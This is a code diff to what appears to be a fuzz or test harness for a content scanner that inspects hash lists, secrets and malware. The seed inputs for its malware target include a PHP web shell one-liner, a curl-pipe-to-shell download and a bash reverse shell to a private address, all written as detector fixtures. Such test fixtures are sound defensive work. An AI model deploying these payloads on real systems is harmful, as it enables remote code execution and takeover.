@@ -50,6 +50,17 @@ def _specimens() -> Iterable[bytes]:
     return [b"\n".join(every[start::8]) for start in range(8)] + [b"x" * 100 + b"\0" + every[0]]
 
 
+def _listed(data: bytes) -> Any:
+    path = written(data, "hashes")
+    return hashes.parse(path, hashes.text(path))
+
+
+def _malware(data: bytes) -> Any:
+    """By an inspector made for this input: it counts what its rules took."""
+    (inspector,) = inspectors_of({"malware"})
+    return inspected(inspector, "srv/www/a.php")(data)
+
+
 def _licences(data: bytes) -> Any:
     names = split(data.decode("utf-8", "replace"))
     return [(name, category(name)) for name in names]
@@ -58,7 +69,7 @@ def _licences(data: bytes) -> Any:
 TARGETS: tuple[Target, ...] = (
     Target(
         "content.hashes",
-        lambda data: hashes.read(written(data, "hashes")),
+        _listed,
         lambda: (b"# known\n" + b"a" * 64 + b"  a name\n" + b"B" * 64 + b", another # why\n",),
     ),
     *(Target(f"content.secret.{path}", _secrets(path), _specimens, runs=60) for path in _PATHS),
@@ -72,7 +83,7 @@ TARGETS: tuple[Target, ...] = (
     ),
     Target(
         "content.malware",
-        inspected(_BY_NAME["malware"], "srv/www/a.php"),
+        _malware,
         lambda: (
             b"<?php eval(base64_decode($_POST['x'])); system($_GET['c']); ?>",
             b"#!/bin/sh\ncurl http://example.org/x | sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
